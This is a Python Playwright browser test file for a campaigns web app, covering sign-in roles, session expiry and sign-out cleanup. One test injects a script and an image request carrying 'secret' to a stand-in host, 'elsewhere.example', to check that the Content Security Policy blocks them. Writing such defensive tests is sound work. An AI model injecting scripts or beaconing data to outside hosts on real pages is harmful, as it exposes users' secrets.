"""Coming in on the laptop, and what the browser lets the page do."""

from playwright.sync_api import expect

from tests.browser.conftest import Visiting


def test_who_comes_in_chooses_a_role_and_stays_signed_in(visiting: Visiting) -> None:
    there = visiting(role=None)
    page = there.page
    page.goto(f"{there.scene.url}/campaigns")

    page.get_by_role("radio", name="Viewer").check()
    page.get_by_role("button", name="Sign in").click()

    expect(page.get_by_role("heading", level=1)).to_contain_text("Campaigns")
    expect(page.get_by_role("button", name="Viewer")).to_be_visible()
    page.reload()
    expect(page.get_by_role("button", name="Viewer")).to_be_visible()
    there.settle()


def test_a_script_that_somebody_smuggles_in_does_not_run(visiting: Visiting) -> None:
    there = visiting()
    there.page.goto(f"{there.scene.url}/campaigns")
    there.settle("Campaigns")

    there.page.evaluate(
        """() => {
            const script = document.createElement('script');
            script.textContent = 'window.smuggled = 1';
            document.body.append(script);
            const image = new Image();
            image.src = 'https://elsewhere.example/?secret';
        }"""
    )
    there.page.wait_for_timeout(200)

    assert there.page.evaluate("window.smuggled") is None
    refused = [line for line in there.trouble if "Content Security Policy" in line]
    assert len(refused) == 2, there.trouble
    there.trouble.clear()


def test_the_console_is_told_live(visiting: Visiting) -> None:
    """The policy of the page lets it listen."""
    there = visiting()
    there.page.goto(f"{there.scene.url}/campaigns")

    expect(there.page.get_by_role("button", name="Live: ")).to_be_visible()
    there.settle()


def test_whose_session_ends_signs_in_again_where_they_were(visiting: Visiting) -> None:
    there = visiting(role="agent")
    there.expected.add(401)
    page = there.page
    page.goto(f"{there.scene.url}/suppressions")
    there.settle("Suppressions")

    page.route(
        "**/api/**", lambda route: route.fulfill(status=401, json={"message": "Unauthorized"})
    )
    page.get_by_role("searchbox").fill("+1")
    expect(page.get_by_text("You are signed out. Sign in to go on.")).to_be_visible()
    page.unroute("**/api/**")
    page.get_by_role("radio", name="Viewer").check()
    page.get_by_role("button", name="Sign in").click()

    expect(page.get_by_role("heading", level=1)).to_contain_text("Suppressions")
    expect(page.get_by_role("button", name="Viewer")).to_be_visible()


def test_who_signs_out_leaves_nothing_behind(visiting: Visiting) -> None:
    there = visiting(role=None)
    page = there.page
    page.goto(f"{there.scene.url}/campaigns")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("link", name="Order updates")).to_be_visible()

    page.get_by_role("button", name="Administrator").click()
    page.get_by_role("menuitem", name="Sign out").click()

    expect(page.get_by_role("button", name="Sign in")).to_be_visible()
    expect(page.get_by_text("Order updates")).to_have_count(0)
    assert page.evaluate("localStorage.getItem('campaigns.local')") is None
